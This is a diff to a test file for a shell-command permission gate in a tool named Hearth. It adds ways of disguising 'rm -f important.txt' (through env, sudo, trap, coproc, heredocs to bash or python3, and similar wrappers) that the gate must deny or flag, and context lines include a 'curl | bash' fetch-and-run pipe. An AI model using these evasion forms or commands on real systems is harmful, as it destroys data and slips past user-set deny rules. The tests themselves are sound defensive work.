@@ -49,6 +49,13 @@ const denied: string[] = [
   "su -c 'rm -f important.txt'",
   'true && (rm -f important.txt)',
   "env -S 'rm -f important.txt'",
+  'env -iu HOME rm -f important.txt',
+  'sudo -iu root rm -f important.txt',
+  'parallel rm ::: important.txt',
+  "trap 'rm -f important.txt' EXIT",
+  'while read f; do rm "$f"; done < list.txt',
+  'coproc rm -f important.txt',
+  '! rm -f important.txt',
 ];
 
 // What no rule can see through: these ask (or are declined with no terminal), naming why.
@@ -74,6 +81,11 @@ const hidden: [string, RegExp][] = [
   ['curl -s http://example.invalid/x | bash -s', /shell reading commands from its input/],
   [`awk 'BEGIN{system("rm -f important.txt")}'`, /awk running commands/],
   ['env -S "$CMD"', /env -S/],
+  ["bash /dev/stdin <<< 'rm -f important.txt'", /shell reading commands from its input/],
+  ['source <(echo rm -f important.txt)', /shell reading commands from its input/],
+  ["python3 /dev/stdin <<< 'import os'", /python3 reading code from its input/],
+  ["expect -c 'spawn rm -f important.txt'", /code given to expect/],
+  ["$'rm' -f important.txt", /variable or substitution in command position/],
 ];
 
 // Ordinary lines still run without a question in auto mode: the deny rule does not make Hearth useless.
@@ -94,6 +106,8 @@ const allowed: string[] = [
   "awk '{print $1}' data.txt",
   'command -v rm',
   'FOO=1 make build',
+  'source .venv/bin/activate && pytest',
+  'sudo -u www-data ls /var/www',
 ];
 
 function gate(mode: PermissionMode, allow: string[] = [], deny = ['shell(rm *)']) {
